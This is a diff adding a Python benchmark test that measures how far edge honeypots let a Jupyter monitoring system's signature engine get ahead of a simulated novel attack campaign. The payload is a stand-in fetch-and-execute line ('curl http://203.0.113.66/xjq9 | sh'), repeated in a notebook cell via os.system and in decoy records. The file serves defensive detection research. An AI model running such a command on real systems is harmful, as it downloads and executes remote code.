@@ -1,0 +1,103 @@
+"""EXP-HPOT — signature lead time from edge honeypots (paper §IV.A).
+
+"Defenders aim to stay ahead of attackers by deploying Jupyter Notebook
+monitors early at the network edges ... to catch the latest signatures
+of attacks in the wild — before they reach the actual Jupyter Notebooks
+instances deployed in supercomputers."
+
+Design: a campaign with a *novel* payload (matches no builtin rule)
+touches the edge at t=10s and production at t=600s.  With an edge
+honeypot fleet harvesting every 60s, production's signature engine
+learns the payload ~530s before impact; without the fleet, production
+has no signature at impact time and only behavioural detectors remain.
+"""
+
+import pytest
+from _bench_utils import report
+
+from repro.attacks.scenario import build_scenario
+from repro.honeypot import HoneypotFleet
+from repro.honeypot.decoy import InteractionRecord
+
+# Novel enough to miss every builtin signature, hostile enough to harvest.
+NOVEL_PAYLOAD = "stager = 'curl http://203.0.113.66/xjq9 | sh'"
+CAMPAIGN_CELL = "import os\n" + NOVEL_PAYLOAD + "\nos.system('curl http://203.0.113.66/xjq9 | sh')"
+EDGE_HIT_T = 10.0
+PRODUCTION_HIT_T = 600.0
+
+
+def run_campaign(*, with_fleet: bool):
+    sc = build_scenario(seed=95)
+    fleet = None
+    if with_fleet:
+        fleet = HoneypotFleet(sc.network, harvest_interval=60.0)
+        decoy = fleet.deploy("edge-hp", "172.16.0.9")
+        fleet.feed.subscribe_engine(sc.monitor.signatures)
+        fleet.schedule_harvesting(horizon=PRODUCTION_HIT_T + 60.0)
+    sc.run(EDGE_HIT_T)
+    if with_fleet:
+        # The campaign probes the edge decoy first.
+        decoy.records.append(InteractionRecord(
+            ts=sc.clock.now(), honeypot="edge-hp",
+            source_ip=sc.attacker_host.ip, kind="terminal",
+            content="curl http://203.0.113.66/xjq9 | sh"))
+    sc.run(PRODUCTION_HIT_T - sc.clock.now())
+    # Campaign reaches production: same payload in a kernel cell.
+    client = sc.user_client(username="attacker-via-stolen-session")
+    sc.audited_session(client)
+    client.execute(CAMPAIGN_CELL)
+    sc.run(10.0)
+    sig_hits = [n for n in sc.monitor.logs.notices
+                if n.detector == "signature"
+                and "xjq9" in str(n.detail.get("description", "")) + str(n.detail)]
+    harvested_hits = [n for n in sc.monitor.logs.notices
+                      if str(n.detail.get("source", "")).startswith("intel:")]
+    return sc, fleet, sig_hits, harvested_hits
+
+
+def test_leadtime_with_fleet(benchmark):
+    sc, fleet, sig_hits, harvested_hits = benchmark.pedantic(
+        lambda: run_campaign(with_fleet=True), rounds=1, iterations=1)
+    lead = fleet.lead_time("xjq9", PRODUCTION_HIT_T)
+    assert lead is not None and lead > 0
+    assert harvested_hits, "production failed to match the harvested signature"
+    report("EXP-HPOT", "=== with edge honeypot fleet ===")
+    report("EXP-HPOT", f"  edge hit at t={EDGE_HIT_T:.0f}s, production hit at t={PRODUCTION_HIT_T:.0f}s")
+    report("EXP-HPOT", f"  signature published at t={PRODUCTION_HIT_T - lead:.0f}s "
+                       f"-> lead time {lead:.0f}s")
+    report("EXP-HPOT", f"  production notices from harvested intel: {len(harvested_hits)}")
+
+
+def test_no_fleet_means_no_signature(benchmark):
+    sc, fleet, sig_hits, harvested_hits = benchmark.pedantic(
+        lambda: run_campaign(with_fleet=False), rounds=1, iterations=1)
+    assert harvested_hits == []
+    report("EXP-HPOT", "\n=== without fleet (baseline) ===")
+    report("EXP-HPOT", "  production has no signature at impact; only "
+                       "behavioural/audit detectors fire:")
+    audit_names = sorted({n.name for a in sc.auditors.values() for n in a.notices})
+    report("EXP-HPOT", f"  kernel audit notices: {audit_names}")
+    assert "POLICY_PROC_SPAWN" in audit_names  # os.system attempt still caught
+
+
+def test_harvest_latency_bounds_leadtime(benchmark):
+    """Lead time ≈ (production delay) - (edge delay) - (harvest interval/2)."""
+
+    def measure(interval):
+        sc = build_scenario(seed=96)
+        fleet = HoneypotFleet(sc.network, harvest_interval=interval)
+        decoy = fleet.deploy("edge-hp", "172.16.0.9")
+        fleet.schedule_harvesting(horizon=500.0)
+        sc.run(EDGE_HIT_T)
+        decoy.records.append(InteractionRecord(
+            ts=sc.clock.now(), honeypot="edge-hp", source_ip="203.0.113.66",
+            kind="terminal", content="curl http://203.0.113.66/xjq9 | sh"))
+        sc.run(490.0)
+        return fleet.lead_time("xjq9", PRODUCTION_HIT_T)
+
+    leads = benchmark.pedantic(lambda: [measure(i) for i in (30.0, 120.0, 480.0)],
+                               rounds=1, iterations=1)
+    assert all(l is not None for l in leads)
+    assert leads == sorted(leads, reverse=True), "tighter harvest cadence must not reduce lead time"
+    report("EXP-HPOT", "\nharvest interval vs lead time: " +
+           ", ".join(f"{i:.0f}s->{l:.0f}s" for i, l in zip((30, 120, 480), leads)))
